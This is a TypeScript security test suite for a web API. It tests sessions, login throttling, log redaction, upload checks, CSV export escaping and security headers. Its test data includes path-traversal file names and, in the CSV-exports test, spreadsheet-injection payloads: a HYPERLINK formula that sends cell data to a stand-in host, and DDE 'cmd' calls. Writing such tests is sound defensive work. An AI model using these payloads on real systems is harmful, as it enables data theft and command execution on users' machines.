import { rmSync } from 'node:fs';
import path from 'node:path';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../apps/api/src/config.js';
import { inProcessApp, type InProcessApp } from './support/inProcess.js';
import {
  call,
  DEMO,
  DEMO_PASSWORD,
  signInOver,
  startChildServer,
  tempDir,
} from '../support/server.js';

/**
 * Security checks as tests, against the threats docs/security.md lists: stolen or stale tokens,
 * password guessing, secrets leaking into logs, hostile uploads and file names, spreadsheet
 * formula injection through exported CSV, and missing browser protections.
 */

const CSV_ROWS = Array.from(
  { length: 20 },
  (_, k) => `${(k * 1e-4).toFixed(4)},${(Math.sin(k) * 100).toFixed(2)}`,
).join('\n');
const GOOD_CSV = `time,voltage\n${CSV_ROWS}\n`;
// The first bytes of a 1×1 PNG (signature, IHDR, IDAT, IEND).
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da6364f8cf00000301010027fd5c8a0000000049454e44ae426082',
  'hex',
);

let setup: InProcessApp;
let admin: string;
let engineer: string;

beforeAll(async () => {
  setup = await inProcessApp('security');
  const login = (email: string) =>
    request(setup.app).post('/api/v1/auth/login').send({ email, password: DEMO_PASSWORD });
  admin = (await login(DEMO.admin)).body.token;
  engineer = (await login(DEMO.engineer)).body.token;
}, 60_000);

afterAll(async () => {
  await setup?.dispose();
});

/** Splits CSV text into cells (quotes honoured), for the formula-injection check. */
function cells(text: string): string[] {
  const out: string[] = [];
  for (const line of text.split(/\r?\n/)) {
    let cell = '';
    let quoted = false;
    for (let i = 0; i < line.length; i++) {
      const ch = line[i] as string;
      if (ch === '"') {
        if (quoted && line[i + 1] === '"') {
          cell += '"';
          i++;
        } else quoted = !quoted;
      } else if (!quoted && (ch === ',' || ch === ';' || ch === '\t')) {
        out.push(cell);
        cell = '';
      } else cell += ch;
    }
    out.push(cell);
  }
  return out;
}

/**
 * Cells a spreadsheet would run as a formula: they begin with = + - @ (or tab / carriage
 * return) and are not plain numbers. OWASP, "CSV Injection" (owasp.org/www-community/attacks/
 * CSV_Injection): such cells must be prefixed (e.g. with ') or refused.
 */
function formulaCells(text: string): string[] {
  return cells(text).filter(
    (c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(c.trim()),
  );
}

describe('sessions', () => {
  it('a session lasts SESSION_HOURS (12 h by default) and an expired one is refused with 401', async () => {
    const res = await request(setup.app)
      .post('/api/v1/auth/login')
      .send({ email: DEMO.viewer, password: DEMO_PASSWORD });
    expect(res.status).toBe(200);
    const hours = loadConfig({}).sessionHours;
    expect(hours).toBe(12);
    // docs/architecture.md/config.ts: sessions last sessionHours; one minute of slack for the request itself.
    expect(Math.abs(Date.parse(res.body.expiresAt) - Date.now() - hours * 3600_000)).toBeLessThan(
      60_000,
    );
    const me = () =>
      request(setup.app).get('/api/v1/me').set('Authorization', `Bearer ${res.body.token}`);
    expect((await me()).status).toBe(200);
    // Age the session past its end, as the clock would.
    const { Session } = setup.app.services.models;
    const [changed] = await Session.update(
      { expiresAt: new Date(Date.now() - 1000) },
      { where: { revokedAt: null, userId: (await me()).body.user.id } },
    );
    expect(changed).toBeGreaterThan(0);
    const refused = await me();
    expect(refused.status).toBe(401);
    expect(refused.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(refused.body.detail).toMatch(/expired|sign in/i);
  });

  it('a short SESSION_HOURS really ends the session', async () => {
    const short = await inProcessApp('security-short', { sessionHours: 1 / 3600 }); // one second
    try {
      const res = await request(short.app)
        .post('/api/v1/auth/login')
        .send({ email: DEMO.viewer, password: DEMO_PASSWORD });
      const me = () =>
        request(short.app).get('/api/v1/me').set('Authorization', `Bearer ${res.body.token}`);
      expect((await me()).status).toBe(200);
      await new Promise((r) => setTimeout(r, 1200));
      expect((await me()).status).toBe(401);
    } finally {
      await short.dispose();
    }
  });

  it('repeated failed sign-ins from one address are slowed to a stop (429) at the default limit, even for the right password', async () => {
    const limit = loadConfig({}).loginRateLimit;
    const limited = await inProcessApp('security-lockout', { loginRateLimit: limit });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < limit + 3; i++) {
        const res = await request(limited.app)
          .post('/api/v1/auth/login')
          .send({ email: DEMO.admin, password: `guess-${i}` });
        statuses.push(res.status);
      }
      expect(statuses.slice(0, limit).every((s) => s === 401)).toBe(true);
      expect(statuses.slice(limit)).toEqual([429, 429, 429]);
      const right = await request(limited.app)
        .post('/api/v1/auth/login')
        .send({ email: DEMO.admin, password: DEMO_PASSWORD });
      expect(right.status).toBe(429);
      expect(right.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(right.body.detail).toMatch(/too many/i);
      expect(
        right.headers['ratelimit'] ??
          right.headers['retry-after'] ??
          right.headers['ratelimit-policy'],
      ).toBeDefined();
    } finally {
      await limited.dispose();
    }
  });
});

describe('secrets stay out of logs', () => {
  it('sign-in, API key creation, a password reset and a failing request write no password, token or key to stdout/stderr', async () => {
    const dir = tempDir('security-logs');
    const server = await startChildServer({
      databaseUrl: `sqlite:${path.join(dir, 'logs.sqlite')}`,
    });
    try {
      const token = await signInOver(server.baseUrl, DEMO.admin);
      const wrong = await call(server.baseUrl, 'POST', '/api/v1/auth/login', undefined, {
        email: DEMO.engineer,
        password: 'a-wrong-password-123',
      });
      expect(wrong.status).toBe(401);
      const key = await call(server.baseUrl, 'POST', '/api/v1/api-keys', token, {
        name: 'ci key',
        role: 'viewer',
      });
      expect(key.status).toBe(201);
      const secret = (key.body as { key: string }).key;
      expect((await call(server.baseUrl, 'GET', '/api/v1/me', secret)).status).toBe(200);
      await call(server.baseUrl, 'POST', '/api/v1/auth/password-reset', undefined, {
        email: DEMO.viewer,
      });
      // A request that makes the service log an error, sent with credentials in it.
      await fetch(`${server.baseUrl}/api/v1/projects`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${token}`,
          'content-type': 'application/json; charset=latin1',
        },
        body: JSON.stringify({ name: DEMO_PASSWORD }),
      });
      await new Promise((r) => setTimeout(r, 200));
      const log = server.output();
      expect(log.length).toBeGreaterThan(0);
      for (const [what, value] of [
        ['demo password', DEMO_PASSWORD],
        ['wrong password', 'a-wrong-password-123'],
        ['session token', token],
        ['API key', secret],
        ['API key secret part', secret.split('_').pop() as string],
      ] as const) {
        expect(log.includes(value), `${what} appears in the service log`).toBe(false);
      }
      expect(log).not.toMatch(/pw[skt]_[A-Za-z0-9_-]{20,}/);
    } finally {
      await server.kill();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('malformed URLs', () => {
  it('GET /% and other broken percent-escapes answer 400 problem+json and write nothing to the log (issue 11)', async () => {
    const dir = tempDir('security-malformed');
    const server = await startChildServer({
      databaseUrl: `sqlite:${path.join(dir, 'malformed.sqlite')}`,
    });
    try {
      const before = server.output().length;
      for (const url of ['/%', '/%E0%A4%A', '/studies/%zz', '/api/v1/%']) {
        const res = await fetch(`${server.baseUrl}${url}`);
        expect(res.status, url).toBe(400);
        expect(res.headers.get('content-type'), url).toMatch(/^application\/problem\+json/);
      }
      await new Promise((r) => setTimeout(r, 200));
      expect(server.output().slice(before)).toBe('');
    } finally {
      await server.kill();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('uploads', () => {
  const upload = (file: Buffer, filename: string, contentType = 'text/csv') =>
    request(setup.app)
      .post('/api/v1/captures')
      .set('Authorization', `Bearer ${engineer}`)
      .attach('file', file, { filename, contentType });

  it('a PNG (or other binary) renamed .csv and sent as text/csv is refused by its content, naming the file field', async () => {
    for (const [what, bytes] of [
      ['PNG', PNG],
      ['ELF header', Buffer.from('7f454c46020101000000000000000000', 'hex')],
      ['ZIP', Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.from(GOOD_CSV)])],
    ] as const) {
      const res = await upload(bytes, 'capture.csv');
      expect(res.status, what).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(
        res.body.errors.some((e: { path: string }) => e.path.startsWith('file')),
        what,
      ).toBe(true);
    }
    const listed = await request(setup.app)
      .get('/api/v1/captures')
      .set('Authorization', `Bearer ${engineer}`);
    expect(listed.body.every((c: { fileName: string }) => c.fileName !== 'capture.csv')).toBe(true);
  });

  it('file names with paths, traversal, control and bidi characters are stored and served sanitised', async () => {
    for (const name of [
      '../../../etc/passwd.csv',
      '..\\..\\windows\\win.ini.csv',
      '/abs/path/run.csv',
      '.hidden.csv',
      'bidi\u202egsv.csv',
      'new\r\nline.csv',
      'quote".csv',
    ]) {
      const res = await upload(Buffer.from(GOOD_CSV), name);
      expect(res.status, name).toBe(201);
      const stored: string = res.body.fileName;
      expect(stored, name).toMatch(/^[A-Za-z0-9_][A-Za-z0-9._ -]*$/);
      expect(stored).not.toContain('..');
      const file = await request(setup.app)
        .get(`/api/v1/captures/${res.body.id}/file`)
        .set('Authorization', `Bearer ${engineer}`);
      expect(file.status).toBe(200);
      expect(file.headers['content-disposition']).toBe(`attachment; filename="${stored}"`);
    }
  });
});

describe('CSV exports', () => {
  it('the timer-table CSV holds no cell a spreadsheet would run as a formula', async () => {
    const res = await request(setup.app)
      .post('/api/v1/timer-tables?format=csv')
      .set('Authorization', `Bearer ${engineer}`)
      .send({
        modulation: { method: 'sine-triangle', scheme: 'bipolar', ma: 0.8 },
        fundamentalFrequency: 50,
        carrierFrequency: 1050,
        timerClock: 72e6,
        deadTime: 1e-6,
        prefix: 'PWM_TABLE',
      });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(cells(res.text).length).toBeGreaterThan(10);
    expect(formulaCells(res.text)).toEqual([]);
  });

  it('a capture downloaded as CSV holds no cell beginning with = + - @ unless escaped (or the upload is refused)', async () => {
    // A comment line is skipped by the parser, so these cells pass the numeric checks.
    const hostile = `time,voltage\n#note,=HYPERLINK("http://example.invalid/?x="&A1;"open")\n#x,+cmd|' /C calc'!A0\n#y,@SUM(1+1)*cmd|' /C calc'!A0\n${CSV_ROWS}\n`;
    const res = await request(setup.app)
      .post('/api/v1/captures')
      .set('Authorization', `Bearer ${engineer}`)
      .attach('file', Buffer.from(hostile), { filename: 'hostile.csv', contentType: 'text/csv' });
    if (res.status === 400) {
      expect(res.body.errors.some((e: { path: string }) => e.path.startsWith('file'))).toBe(true);
      return;
    }
    expect(res.status).toBe(201);
    const file = await request(setup.app)
      .get(`/api/v1/captures/${res.body.id}/file`)
      .set('Authorization', `Bearer ${engineer}`);
    expect(file.status).toBe(200);
    expect(formulaCells(file.text)).toEqual([]);
  });
});

describe('security headers (helmet)', () => {
  it('API answers, the docs page and the dashboard fallback carry the browser protections', async () => {
    for (const url of ['/api/health', '/api/v1/me', '/api/docs/', '/']) {
      const res = await request(setup.app).get(url).set('Authorization', `Bearer ${admin}`);
      expect(res.status, url).toBeLessThan(400);
      const h = res.headers;
      expect(h['x-powered-by'], url).toBeUndefined();
      expect(h['x-content-type-options'], url).toBe('nosniff');
      expect(h['content-security-policy'], url).toMatch(/default-src 'self'/);
      expect(h['content-security-policy'], url).toMatch(
        /frame-ancestors 'self'|frame-ancestors 'none'/,
      );
      expect(h['content-security-policy'], url).toMatch(/script-src 'self'/);
      expect(h['content-security-policy'], url).not.toMatch(/script-src[^;]*'unsafe-inline'/);
      expect(h['x-frame-options'], url).toMatch(/SAMEORIGIN|DENY/);
      // No HSTS on purpose: the service speaks plain HTTP on its port and HSTS belongs to the
      // TLS proxy in front of it (apps/api/src/app.ts); browsers ignore HSTS over plain HTTP anyway.
      expect(h['referrer-policy'], url).toBe('no-referrer');
      expect(h['cross-origin-opener-policy'], url).toBe('same-origin');
      expect(h['access-control-allow-origin'], url).toBeUndefined();
    }
  });
});
